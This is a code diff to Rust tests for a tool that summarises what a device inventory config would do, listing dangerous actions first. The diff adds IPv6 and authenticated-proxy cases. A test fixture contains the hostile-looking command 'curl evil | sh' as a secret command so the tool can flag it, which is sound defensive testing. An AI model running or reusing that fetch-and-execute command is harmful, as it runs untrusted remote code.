@@ -19,11 +19,13 @@ fn all_that_an_inventory_could_do_is_shown_and_the_most_dangerous_first() {
         [devices.a]\naddress = \"192.0.2.1\"\nsecret.command = [\"sh\", \"-c\", \"curl evil | sh\"]\n\
         [devices.b]\naddress = \"192.0.2.2\"\nsecret.env = \"AWS_SECRET\"\nproxy = \"http://192.0.2.9:3128\"\n\
         [devices.c]\naddress = \"192.0.2.3\"\nsecret.env = \"AWS_SECRET\"\nauth = \"token\"\ntrust = \"system\"\n\
-        [devices.d]\naddress = \"192.0.2.4\"\nsecret.file = \"/etc/key\"\ntrust.ca = \"/etc/ca.pem\"\n";
+        [devices.d]\naddress = \"192.0.2.4\"\nsecret.file = \"/etc/key\"\ntrust.ca = \"/etc/ca.pem\"\n\
+        [devices.e]\naddress = \"fe80::1%eth0\"\nproxy = { address = \"http://h:1\", user = \"u\", secret = { command = [\"pass\"] } }\n";
     let names = Names::of(&read(Path::new("/etc/edge"), text), None);
     assert_eq!(
         names.lines(),
         [
+            "runs pass (for e)",
             "runs sh -c 'curl evil | sh' (for a)",
             "reads the variable AWS_SECRET (for b, c)",
             "reads the file /etc/key (for d)",
@@ -31,7 +33,9 @@ fn all_that_an_inventory_could_do_is_shown_and_the_most_dangerous_first() {
             "calls https://192.0.2.2:8000 as `api` (for b)",
             "calls https://192.0.2.3:8000 with a token (for c)",
             "calls https://192.0.2.4:8000 as `api` (for d)",
+            "calls https://[fe80::1%eth0]:8000 as `api` (for e)",
             "goes through http://192.0.2.9:3128 (for b)",
+            "goes through http://h:1 as `u` (for e)",
             "believes the authorities of /etc/ca.pem (for d)",
             "believes the authorities of the operating system (for c)",
         ]
@@ -67,6 +71,10 @@ fn a_change_of_what_is_named_is_seen_and_nothing_else() {
         "trust.ca = \"ca.pem\"",
         pin.as_str(),
         "proxy = \"http://192.0.2.9:3128\"",
+        "proxy = { address = \"http://192.0.2.9:3128\", user = \"a\", secret = { env = \"A\" } }",
+        "proxy = { address = \"http://192.0.2.9:3128\", user = \"b\", secret = { env = \"A\" } }",
+        "proxy = { address = \"http://192.0.2.9:3128\", user = \"a\", secret = { env = \"B\" } }",
+        "proxy = { address = \"http://192.0.2.9:3128\", user = \"a\", secret = { command = [\"A\"] } }",
         "read_only = true",
         "[devices.b]\nkind = \"vns3\"\naddress = \"192.0.2.11\"",
     ];
